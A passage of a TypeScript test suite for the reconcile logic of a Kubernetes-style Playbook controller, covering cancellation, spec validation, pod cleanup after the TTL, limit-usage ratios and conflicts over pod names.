  );

  it.each([
    { name: "its pod is already gone", pods: [] },
    {
      name: "its pod reported the cancellation",
      pods: [interruptedPod("Exited")],
    },
  ])("settles Cancelled when $name", ({ pods }) => {
    const decision = decide(input({ playbook: playbook({ cancel: true }, started()), pods, now: at(40) }));
    expect(succeeded(decision.status)).toMatchObject({ status: "False", reason: "Cancelled" });
    expect(decision.status?.phase).toBe("Cancelled");
    expect(decision.actions).toEqual([]);
  });

  it("settles Cancelled without a pod when cancelled before the run started", () => {
    const decision = decide(input({ playbook: playbook({ cancel: true }) }));
    expect(decision.actions).toEqual([]);
    expect(succeeded(decision.status)).toMatchObject({ reason: "Cancelled" });
  });
});

describe("validation the API server could not do", () => {
  it("refuses a ceiling above the configured maximum as InvalidSpec", () => {
    const decision = decide(input({ playbook: playbook({ ceiling: "48h" }) }));
    expect(decision.actions).toEqual([]);
    const condition = succeeded(decision.status);
    expect(condition).toMatchObject({ status: "False", reason: "InvalidSpec" });
    expect(condition?.message).toContain("spec.ceiling");
    expect(condition?.message).toContain("24h");
  });

  it("refuses a task timeout above the default ceiling", () => {
    const decision = decide(
      input({
        playbook: playbook({ ceiling: undefined, tasks: [{ name: "a", run: "true", timeout: "2h" }] }),
      }),
    );
    expect(succeeded(decision.status)?.message).toContain("spec.tasks[0].timeout");
  });
});

describe("a finished run", () => {
  const finished = (): PlaybookStatus => {
    const ended = pod(1, {
      phase: "Succeeded",
      terminated: {
        exitCode: 0,
        message: report({
          phase: "Succeeded",
          reason: "Succeeded",
          tasks: [task("build", {}), task("test", {})],
        }),
      },
    });
    return decide(input({ playbook: playbook({}, started()), pods: [ended], now: at(61) }))
      .status as PlaybookStatus;
  };

  it("is never rewritten by a later pass", () => {
    const status = finished();
    const decision = decide(input({ playbook: playbook({ cancel: true }, status), pods: [], now: at(100) }));
    expect(decision.status).toBeNull();
    expect(decision.events).toEqual([]);
    expect(decision.finished).toBeUndefined();
  });

  it("keeps its pod for logs until ttlSecondsAfterFinished, then deletes it", () => {
    const status = finished();
    const ended = pod(1, { phase: "Succeeded" });
    const early = decide(
      input({ playbook: playbook({ ttlSecondsAfterFinished: 60 }, status), pods: [ended], now: at(100) }),
    );
    expect(early.actions).toEqual([]);
    expect(early.requeueAfterMs).toBe(20_000);
    const late = decide(
      input({ playbook: playbook({ ttlSecondsAfterFinished: 60 }, status), pods: [ended], now: at(120) }),
    );
    expect(late.actions).toEqual([{ type: "deletePod", name: "nightly-1", why: "ttl" }]);
  });

  it("deletes at once, with a Warning, a pod whose task containers still run after its runner ended", () => {
    const status = finished();
    const runnerDone = pod(1, { terminated: { exitCode: 124 } });
    const outlived: PodView = {
      ...runnerDone,
      status: {
        ...runnerDone.status,
        phase: "Running",
        containerStatuses: [
          ...(runnerDone.status?.containerStatuses ?? []),
          { name: "task-1", state: { running: { startedAt: at(2).toISOString() } } },
          { name: "task-2", state: { terminated: { exitCode: 0 } } },
        ],
      },
    };
    const decision = decide(
      input({
        playbook: playbook({ ttlSecondsAfterFinished: 3600 }, status),
        pods: [outlived],
        now: at(100),
      }),
    );
    expect(decision.status).toBeNull();
    expect(decision.actions).toEqual([{ type: "deletePod", name: "nightly-1", why: "finished" }]);
    expect(decision.events).toEqual([
      {
        type: "Warning",
        reason: "TaskContainersOutlivedRunner",
        message: "Deleted pod nightly-1: its runner ended while task container(s) task-1 still ran",
      },
    ]);
    // Once every task container ended too, the pod is kept for its logs as any other.
    const kept = decide(
      input({
        playbook: playbook({ ttlSecondsAfterFinished: 3600 }, status),
        pods: [runnerDone],
        now: at(100),
      }),
    );
    expect(kept.actions).toEqual([]);
  });
});

describe("how much of its limits a finished run used", () => {
  /** The decision for a pod whose runner reported `outcome`, the report ending at `endSeconds`. */
  const reported = (
    outcome: Parameters<typeof report>[0],
    endSeconds = 60,
    spec: Record<string, unknown> = {},
  ): Decision => {
    const phase = outcome.reason === "Succeeded" ? "Succeeded" : "Failed";
    const ended = pod(1, {
      phase,
      terminated: {
        exitCode: exitCodeOf(outcome),
        message: report({ completionTime: at(endSeconds), ...outcome }),
      },
    });
    return decide(input({ playbook: playbook(spec, started()), pods: [ended], now: at(endSeconds + 1) }));
  };

  it("holds a task that ended on its own against its timeout, and the run against its ceiling", () => {
    const decision = reported(
      {
        phase: "Succeeded",
        reason: "Succeeded",
        // build: 9m of its 10m timeout; test has no timeout of its own.
        tasks: [task("build", { startTime: T0, completionTime: at(540) }), task("test", {})],
      },
      900,
    );
    expect(decision.finished?.usage).toEqual([
      { limit: "TaskTimeout", ratio: 0.9, task: "build" },
      { limit: "RunCeiling", ratio: 0.5 },
    ]);
  });

  it("counts a failed task as well as a succeeded one", () => {
    const decision = reported({
      phase: "Failed",
      reason: "TaskFailed",
      tasks: [
        task("build", { phase: "Failed", exitCode: 2, startTime: T0, completionTime: at(60) }),
        skipped("test"),
      ],
    });
    expect(decision.finished?.usage).toEqual([
      { limit: "TaskTimeout", ratio: 0.1, task: "build" },
      { limit: "RunCeiling", ratio: 60 / 1800 },
    ]);
  });

  it("holds a retried task's whole span against the timeout of each of its attempts", () => {
    const decision = reported(
      {
        phase: "Succeeded",
        reason: "Succeeded",
        tasks: [task("build", { attempts: 2, startTime: T0, completionTime: at(900) }), task("test", {})],
      },
      900,
    );
    expect(decision.finished?.usage).toContainEqual({ limit: "TaskTimeout", ratio: 0.75, task: "build" });
  });

  it("leaves out a task whose timeout fired: the limit counter has it", () => {
    const decision = reported(
      {
        phase: "Failed",
        reason: "TaskTimeout",
        tasks: [
          task("build", {
            phase: "TimedOut",
            limit: "TaskTimeout",
            ending: "Killed",
            startTime: T0,
            completionTime: at(600),
          }),
          skipped("test"),
        ],
      },
      610,
    );
    expect(decision.finished?.limit).toBe("TaskTimeout");
    expect(decision.finished?.usage).toEqual([{ limit: "RunCeiling", ratio: 610 / 1800 }]);
  });

  it("leaves out the run when its ceiling is what ended it", () => {
    const decision = reported(
      {
        phase: "Failed",
        reason: "RunCeiling",
        tasks: [task("build", { phase: "TimedOut", limit: "RunCeiling", ending: "Killed" }), skipped("test")],
      },
      1800,
    );
    expect(decision.finished?.limit).toBe("RunCeiling");
    expect(decision.finished?.usage).toEqual([]);
  });

  it("has nothing to measure for a spec refused before it ran", () => {
    const decision = decide(input({ playbook: playbook({ ceiling: "48h" }) }));
    expect(decision.finished?.reason).toBe("InvalidSpec");
    expect(decision.finished?.usage).toEqual([]);
  });
});

describe("a pod name held by a pod this Playbook does not control", () => {
  const createdName = (decision: Decision) => {
    const action = decision.actions.find((a) => a.type === "createPod");
    return action?.type === "createPod" ? action.pod.metadata.name : undefined;
  };

  it("makes the first pod under the alternate name <playbook>-<attempt>-<uid>, and says which pod holds the usual one", () => {
    const decision = decide(input({ takenPodNames: ["nightly-1"] }));
    expect(createdName(decision)).toBe("nightly-1-uid1");
    expect(decision.pending).toMatchObject({ podName: "nightly-1-uid1", podAttempts: 1 });
    expect(decision.events.map((e) => [e.reason, e.message])).toEqual([
      [
        "PodNameTaken",
        "Pod name nightly-1 is held by a pod this Playbook does not control; created pod nightly-1-uid1 (attempt 1) instead",
      ],
      ["PodCreated", expect.stringContaining("Created pod nightly-1-uid1 (attempt 1)")],
    ]);
  });

  it("re-creates a lost pod under the alternate name when the next attempt's name is held", () => {
    const decision = decide(
      input({ playbook: playbook({}, started()), pods: [], now: at(600), takenPodNames: ["nightly-2"] }),
    );
    expect(createdName(decision)).toBe("nightly-2-uid1");
    expect(decision.status).toMatchObject({ podName: "nightly-2-uid1", podAttempts: 2 });
    expect(decision.events.map((e) => e.reason)).toEqual(["PodLost", "PodNameTaken", "PodCreated"]);
  });

  it("keeps the run Pending, naming both pods, when both names are held, and ends it RunCeiling at its ceiling", () => {
    const waiting = decide(input({ takenPodNames: ["nightly-1", "nightly-1-uid1"] }));
    expect(waiting.actions).toEqual([]);
    const message =
      "pod names nightly-1 and nightly-1-uid1 are held by pods this Playbook does not control: attempt 1 cannot be created until one is removed or the run's ceiling passes";
    expect(waiting.status).toMatchObject({ phase: "Pending", startTime: T0.toISOString(), podAttempts: 0 });
    expect(waiting.status?.podName).toBeUndefined();
    expect(succeeded(waiting.status)).toMatchObject({ status: "Unknown", reason: "Pending", message });
    expect(waiting.events.map((e) => e.reason)).toEqual(["PodNameTaken"]);
    expect(waiting.requeueAfterMs).toBe(30 * 60_000);
    const ended = decide(
      input({
        playbook: playbook({}, waiting.status as PlaybookStatus),
        now: at(1800),
        takenPodNames: ["nightly-1", "nightly-1-uid1"],
      }),
    );
    expect(succeeded(ended.status)).toMatchObject({ status: "False", reason: "RunCeiling" });
    expect(succeeded(ended.status)?.message).toContain(message);
    expect(ended.actions).toEqual([]);
  });
});
